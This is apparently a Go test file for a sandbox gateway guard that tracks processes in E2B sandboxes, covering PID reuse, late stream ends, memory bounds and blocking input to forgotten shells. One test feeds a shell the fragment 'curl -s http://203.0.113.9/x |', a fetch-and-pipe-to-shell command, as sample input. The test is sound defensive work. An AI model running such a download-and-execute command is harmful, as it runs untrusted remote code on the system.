package gateway

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/e2bguard/e2bguard/internal/e2b/envd"
	"github.com/e2bguard/e2bguard/internal/e2b/envd/processpb"
)

func byPID(pid uint32) *processpb.ProcessSelector {
	return &processpb.ProcessSelector{Selector: &processpb.ProcessSelector_Pid{Pid: pid}}
}

func byTag(tag string) *processpb.ProcessSelector {
	return &processpb.ProcessSelector{Selector: &processpb.ProcessSelector_Tag{Tag: tag}}
}

func aProcess(sandbox, tag, cmd string, args ...string) *process {
	p := newProcess(sandbox, &processpb.StartRequest{Process: &processpb.ProcessConfig{Cmd: cmd, Args: args}, Tag: &tag})
	p.files = newFileMemory()
	return p
}

func TestRunningProcessesAreKnown(t *testing.T) {
	ps := newProcesses(newFileMemory())
	one := aProcess("a", "t", "bash")
	ended := ps.follow("a", 7, one)
	two := aProcess("a", "t", "python3")
	left := ps.follow("a", 8, two)

	got, trusted := ps.find("a", byPID(7))
	require.Same(t, one, got)
	require.True(t, trusted)
	got, trusted = ps.find("a", byTag("t"))
	require.Same(t, two, got, "of two with one tag, the later")
	require.True(t, trusted)
	_, trusted = ps.find("b", byPID(7))
	require.False(t, trusted, "another sandbox's pid is another process")

	ended.close(true)
	got, _ = ps.find("a", byPID(7))
	require.Nil(t, got)
	left.waits.Store(false)
	_, trusted = ps.find("a", byPID(8))
	require.False(t, trusted, "its client does not read, so its end may be unheard")
	left.close(false)
	got, trusted = ps.find("a", byPID(8))
	require.Same(t, two, got)
	require.False(t, trusted, "nobody would tell of its end")

	ps.forget("a")
	got, _ = ps.find("a", byPID(8))
	require.Nil(t, got)
}

// A pid that the system gave to another process must not pass for the old one.
func TestListReplacesWhatWasReused(t *testing.T) {
	ps := newProcesses(newFileMemory())
	asked := ps.now()
	later := aProcess("a", "", "x")
	ps.follow("a", 1, later)
	list := func(asked uint64, infos ...*processpb.ProcessInfo) {
		ps.listed("a", &processpb.ListResponse{Processes: infos}, asked)
	}
	info := func(pid uint32, mark int64, cmd string) *processpb.ProcessInfo {
		start := &processpb.StartRequest{Process: &processpb.ProcessConfig{Cmd: cmd}, Tag: new(string)}
		envd.Wrap(start, envd.WrapOptions{Mark: mark})
		return &processpb.ProcessInfo{Pid: pid, Config: start.GetProcess(), Tag: start.Tag}
	}
	list(asked, info(1, 1, "y"))
	find := func(pid uint32) *process {
		p, _ := ps.find("a", byPID(pid))
		return p
	}
	require.Same(t, later, find(1), "it became known after the list was asked for")

	same, again, other, gone := aProcess("a", "", "cat"), aProcess("a", "", "cat"), aProcess("a", "", "cat"), aProcess("a", "", "cat")
	for i, p := range []*process{same, again, other, gone} {
		p.mark = int64(i) + 2
		ps.follow("a", uint32(i)+2, p).close(false)
	}
	unread := ps.follow("a", 6, aProcess("a", "", "cat"))
	unread.waits.Store(false)
	list(ps.now(), info(2, 2, "cat"), info(3, 33, "cat"), info(4, 44, "bash"), info(6, 66, "bash"), info(7, 0, "node"))
	require.Nil(t, find(1))
	require.Same(t, same, find(2))
	require.NotSame(t, again, find(3), "started anew, with the same words")
	require.Equal(t, "cat", find(3).cmd)
	require.NotSame(t, other, find(4))
	require.Equal(t, "bash", find(4).cmd)
	require.False(t, find(4).seen)
	require.Nil(t, find(5))
	require.Equal(t, "bash", find(6).cmd, "the stream of the one before is open, but not read")
	require.Equal(t, int64(66), find(6).mark)
	require.Equal(t, "node", find(7).cmd)
	unread.close(true)
	require.Equal(t, "bash", find(6).cmd, "the late end is that of the one before")
}

// A reconnected stream makes what envd listed certain. See e2b-dev/E2B#1074.
func TestConnectedProcessIsAskedForOnce(t *testing.T) {
	ps := newProcesses(newFileMemory())
	stream := ps.follow("a", 5, nil)
	list := &processpb.ListResponse{Processes: []*processpb.ProcessInfo{{Pid: 5, Config: &processpb.ProcessConfig{Cmd: "node"}}}}
	ps.listed("a", list, ps.now())
	p, trusted := ps.find("a", byPID(5))
	require.NotNil(t, p)
	require.True(t, trusted)
	stream.close(true)
	_, trusted = ps.find("a", byPID(5))
	require.False(t, trusted)
	ps.listed("a", new(processpb.ListResponse), ps.now())
	p, _ = ps.find("a", byPID(5))
	require.Nil(t, p)
}

// The end of a stream is the end of its own process, whatever has the pid by then.
func TestLateEndIsNotThatOfTheNextProcess(t *testing.T) {
	ps := newProcesses(newFileMemory())
	first := ps.follow("a", 5, aProcess("a", "", "cat"))
	connected := ps.follow("a", 5, nil)
	shell := aProcess("a", "", "bash")
	ps.follow("a", 5, shell)
	connected.close(true)
	first.close(true)
	p, trusted := ps.find("a", byPID(5))
	require.Same(t, shell, p)
	require.True(t, trusted)
}

func TestProcessesAreBounded(t *testing.T) {
	ps := newProcesses(newFileMemory())
	shell := aProcess("a", "", "bash")
	ps.follow("a", 1, shell)
	for pid := range uint32(processesKept + 10) {
		ps.follow("a", pid+2, aProcess("a", "", "cat")).close(false)
	}
	require.LessOrEqual(t, len(ps.of("a").order), processesKept+2, "and the latest")
	require.Len(t, ps.of("a").byPID, len(ps.of("a").order))
	p, _ := ps.find("a", byPID(1))
	require.Same(t, shell, p, "one whose stream is open is kept")
	for i := range sandboxesWatched + 10 {
		ps.follow(fmt.Sprint("s", i), 1, aProcess(fmt.Sprint("s", i), "", "cat")).close(true)
	}
	require.LessOrEqual(t, ps.sandboxes.Len(), sandboxesWatched)
	p, _ = ps.find("a", byPID(1))
	require.Same(t, shell, p)
}

// Of a process that was forgotten, nobody knows what was sent to it: half of a
// command may have been. So it takes nothing more.
func TestForgottenProcessTakesNoInput(t *testing.T) {
	list := func() *processpb.ListResponse {
		return &processpb.ListResponse{Processes: []*processpb.ProcessInfo{{Pid: 1, Config: &processpb.ProcessConfig{Cmd: "bash"}}, {Pid: 2, Config: &processpb.ProcessConfig{Cmd: "cat"}}}}
	}
	for name, forget := range map[string]func(*processes) string{
		"for other processes": func(ps *processes) string {
			for pid := range uint32(processesKept + 10) {
				ps.follow("a", pid+2, aProcess("a", "", "cat")).close(false)
			}
			return "a"
		},
		"for other sandboxes": func(ps *processes) string {
			for i := range sandboxesWatched {
				ps.follow(fmt.Sprint("s", i), 1, aProcess(fmt.Sprint("s", i), "", "cat"))
			}
			return "a"
		},
		"in a copy of its sandbox": func(ps *processes) string {
			ps.copied("b", "a")
			return "b"
		},
	} {
		t.Run(name, func(t *testing.T) {
			ps := newProcesses(newFileMemory())
			shell := aProcess("a", "", "bash")
			ps.follow("a", 1, shell).close(false)
			next, ref := shell.input.with(shell, "", []byte("curl -s http://203.0.113.9/x |"))
			require.Nil(t, ref)
			shell.take(next, ps)
			require.NotZero(t, ps.typed)
			sandbox := forget(ps)
			if sandbox == "a" {
				require.Zero(t, ps.typed)
			}
			ps.listed(sandbox, list(), ps.now())
			p, _ := ps.find(sandbox, byPID(1))
			require.NotSame(t, shell, p)
			_, ref = p.input.with(p, "", []byte("bash\n"))
			require.NotNil(t, ref)
			require.Contains(t, ref.Reason, "Start a new process")
			data, _ := ps.find(sandbox, byPID(2))
			_, ref = data.input.with(data, "", []byte("x"))
			require.Nil(t, ref, "one that reads data")
		})
	}
}

// One client's input does not keep others from sending theirs.
func TestRememberedInputOfAllIsBounded(t *testing.T) {
	ps := newProcesses(newFileMemory())
	send := func(sandbox string, pid uint32, n int) *process {
		p := aProcess(sandbox, "", "bash")
		ps.follow(sandbox, pid, p)
		p.take(&judged{input: input{text: []byte(strings.Repeat("x", n)), readers: []reader{{use: p.stdin[0]}}}}, ps)
		return p
	}
	one := send("small", 1, 1000)
	first := send("big", 1, codeKept)
	busy := send("big", 2, codeKept)
	busy.turn <- struct{}{}
	for pid := range uint32(inputsOfOne / codeKept) {
		send("big", pid+3, codeKept)
	}
	require.LessOrEqual(t, ps.typed, int64(inputsOfOne))
	require.NotEmpty(t, first.input.lost)
	require.Empty(t, busy.input.lost, "something is being sent to it")
	for i := range 10 {
		for pid := range uint32(inputsOfOne/codeKept - 1) {
			send(fmt.Sprint("big", i), pid+1, codeKept)
		}
	}
	require.LessOrEqual(t, ps.typed, int64(inputsOfAll))
	require.Empty(t, one.input.lost)
	sum := int64(0)
	for _, sb := range ps.sandboxes.Values() {
		own := int64(0)
		for _, p := range sb.order {
			own += p.kept
			require.LessOrEqual(t, int64(len(p.input.text)), p.kept)
		}
		require.Equal(t, own, sb.typed)
		sum += own
	}
	require.Equal(t, sum, ps.typed)

	// What was dropped meanwhile is not charged again.
	late := send("late", 1, 10)
	ps.forget("late")
	require.Equal(t, sum, ps.typed)
	late.take(&judged{input: input{text: []byte("x")}}, ps)
	require.Equal(t, sum, ps.typed)
}

// The pid and the command are learned from Start, as the client asked for it.
func TestStartTellsOfItsProcess(t *testing.T) {
	var known *process
	state := NewState()
	running := make(chan struct{})
	end := make(chan struct{})
	h := newHouse(t, func(w http.ResponseWriter, _ *http.Request) {
		streamAnswer(w, frame(`{"event":{"start":{"pid":7}}}`))
		close(running)
		<-end
		streamAnswer(w, frame(`{"event":{"end":{"exited":true,"status":"exit status 0"}}}`), endFrame("{}"))
	}, func(cfg *Config) { cfg.State = state })
	done := make(chan answer)
	go func() {
		done <- h.do(t, "POST", "/process.Process/Start", startHeaders(), strings.NewReader(string(frame(
			`{"process":{"cmd":"/bin/bash","args":["-l","-c","python3"]},"tag":"repl","pty":{"size":{"cols":80,"rows":24}}}`))))
	}()
	<-running
	require.Eventually(t, func() bool {
		known, _ = state.processes.find("isbx1", byTag("repl"))
		return known != nil
	}, 5*time.Second, time.Millisecond)
	require.Equal(t, uint32(7), known.pid)
	require.Equal(t, "/bin/bash", known.cmd)
	require.Equal(t, []string{"-l", "-c", "python3"}, known.args)
	require.Equal(t, terminalSize{80, 24}, *known.tty.Load())
	close(end)
	<-done
	require.Eventually(t, func() bool {
		known, _ = state.processes.find("isbx1", byPID(7))
		return known == nil
	}, 5*time.Second, time.Millisecond)
}
